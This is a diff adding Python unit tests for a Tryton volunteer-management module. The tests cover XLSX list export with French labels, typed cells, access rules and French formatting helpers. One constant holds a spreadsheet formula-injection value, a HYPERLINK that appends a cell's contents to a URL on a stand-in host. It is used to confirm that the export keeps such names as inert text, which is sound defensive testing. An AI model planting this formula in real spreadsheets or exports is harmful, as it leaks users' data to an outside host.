@@ -1,0 +1,145 @@
+"""Unit tests of the export of a list to a spreadsheet (XLSX) and of the
+French formatting helpers, mixed into the test case."""
+import datetime as dt
+import io
+from decimal import Decimal
+
+from trytond.model.exceptions import AccessError
+from trytond.pool import Pool
+from trytond.tests.test_tryton import with_transaction
+from trytond.transaction import Transaction
+
+from .volunteer_tests import make_mission, make_volunteer
+
+FORMULA = '=HYPERLINK("http://exemple.test/?"&A3,"Voir")'
+
+
+def french_user(login, *groups):
+    "A user in French in the groups (xml ids of connexion_asso)."
+    pool = Pool()
+    Lang = pool.get('ir.lang')
+    ModelData = pool.get('ir.model.data')
+    User = pool.get('res.user')
+    french, = Lang.search([('code', '=', 'fr')])
+    Lang.load_translations([french])
+    user = User(login=login, name=login, language=french, groups=[
+            ModelData.get_id('connexion_asso', g) for g in groups])
+    user.save()
+    return user
+
+
+def export(model, ids):
+    "The workbook and the wizard's values of an export of the records."
+    import openpyxl
+    Export = Pool().get('connexion.export.xlsx', type='wizard')
+    with Transaction().set_context(active_model=model, active_ids=ids,
+            active_id=ids[0] if ids else None):
+        Export.check_access()
+        session_id, _, _ = Export.create()
+        values = Export(session_id).default_result([])
+    return openpyxl.load_workbook(io.BytesIO(values['file'])).active, values
+
+
+class ExportTestMixin:
+
+    @with_transaction()
+    def test_export_xlsx_volunteers_in_french(self):
+        "A list exported: French headers and labels, typed cells, safe text"
+        pool = Pool()
+        Team = pool.get('connexion.team')
+        Volunteer = pool.get('connexion.volunteer')
+        dreams, hospitals = Team.create([
+                {'name': "Rêves"}, {'name': "Hôpitaux"}])
+        anne = make_volunteer("Anne Martin",
+            check_expiry=dt.date(2027, 3, 14))
+        Volunteer.write([anne], {'teams': [('add', [
+                            dreams.id, hospitals.id])]})
+        formula = make_volunteer(FORMULA, status='candidate')
+        user = french_user('export', 'group_connexion')
+        with Transaction().set_user(user.id), \
+                Transaction().set_context(language='fr', _check_access=True):
+            sheet, values = export(
+                'connexion.volunteer', [formula.id, anne.id])
+            # The list shows the team names, not a count.
+            self.assertEqual(Volunteer(anne.id).team_names, "Hôpitaux, Rêves")
+        rows = list(sheet.iter_rows())
+        self.assertEqual([c.value for c in rows[0]],
+            ["Tiers", "Statut", "Équipes",
+                "Fin de validité du casier judiciaire"])
+        self.assertTrue(rows[0][0].font.b)
+        self.assertEqual(len(rows), 3)
+        # In the order of the list.
+        candidate, active = rows[1], rows[2]
+        self.assertEqual([c.value for c in active[:3]],
+            ["Anne Martin", "Actif·ve", "Hôpitaux, Rêves"])
+        self.assertEqual(active[3].value, dt.datetime(2027, 3, 14))
+        self.assertTrue(active[3].is_date)
+        self.assertEqual(active[3].number_format, 'DD/MM/YYYY')
+        # A name written as a formula stays text, as typed.
+        self.assertEqual(candidate[0].value, FORMULA)
+        self.assertEqual(candidate[0].data_type, 's')
+        self.assertTrue(candidate[0].quotePrefix)
+        self.assertEqual(candidate[1].value, "Candidat·e")
+        self.assertIsNone(candidate[3].value)
+        self.assertTrue(values['filename'].endswith('.xlsx'))
+        self.assertIn("2 lignes exportées", values['summary'])
+
+    @with_transaction()
+    def test_export_xlsx_numbers(self):
+        "Hours and amounts exported as numbers, dates as dates"
+        pool = Pool()
+        Hours = pool.get('connexion.volunteer.hours')
+        anne = make_volunteer("Anne Martin")
+        mission = make_mission()
+        line, = Hours.create([{'volunteer': anne.id, 'mission': mission.id,
+                    'date': dt.date(2026, 3, 1), 'hours': Decimal('2.5'),
+                    'distance': 12}])
+        user = french_user('export', 'group_connexion')
+        with Transaction().set_user(user.id), \
+                Transaction().set_context(language='fr', _check_access=True):
+            sheet, _ = export('connexion.volunteer.hours', [line.id])
+        header, row = list(sheet.iter_rows(values_only=True))
+        cells = dict(zip(header, row))
+        self.assertEqual(cells["Date"], dt.datetime(2026, 3, 1))
+        self.assertEqual(cells["Bénévole"], "Anne Martin")
+        self.assertEqual(cells["Heures"], 2.5)
+        self.assertEqual(cells["Distance (km)"], 12)
+        self.assertEqual(cells["État"], "À valider")
+
+    @with_transaction()
+    def test_export_xlsx_only_what_user_reads(self):
+        "Outside the staff no export; no record the rules hide"
+        pool = Pool()
+        Volunteer = pool.get('connexion.volunteer')
+        anne = make_volunteer("Anne Martin")
+        bruno = make_volunteer("Bruno Petit")
+        volunteer = french_user('benevole', 'group_volunteer')
+        Volunteer.write([bruno], {'user': volunteer.id})
+        with Transaction().set_user(volunteer.id), \
+                Transaction().set_context(_check_access=True):
+            with self.assertRaises(AccessError):
+                export('connexion.volunteer', [bruno.id])
+        from connexion_asso.export import export_rows, list_columns
+        with Transaction().set_user(volunteer.id), \
+                Transaction().set_context(_check_access=True):
+            columns = list_columns(Volunteer)
+            self.assertEqual(len(list(export_rows(
+                            Volunteer, [bruno.id], columns))), 1)
+            with self.assertRaises(AccessError):
+                list(export_rows(Volunteer, [anne.id], columns))
+
+    @with_transaction()
+    def test_french_formats(self):
+        "Amounts and dates the French way, with ir.lang's separators"
+        from connexion_asso.formatting import format_amount, format_date
+        self.assertEqual(format_amount(Decimal('1234.5')),
+            "1\u00a0234,50\u00a0€")
+        self.assertEqual(format_amount(Decimal('1234567.891'), symbol=False),
+            "1\u00a0234\u00a0567,89")
+        self.assertEqual(format_amount(Decimal('-42')), "-42,00\u00a0€")
+        self.assertEqual(format_date(dt.date(2026, 3, 4)), "04/03/2026")
+        self.assertEqual(format_date(None), "")
+        # Whatever the user's language.
+        with Transaction().set_context(language='en'):
+            self.assertEqual(format_amount(Decimal('1000')),
+                "1\u00a0000,00\u00a0€")
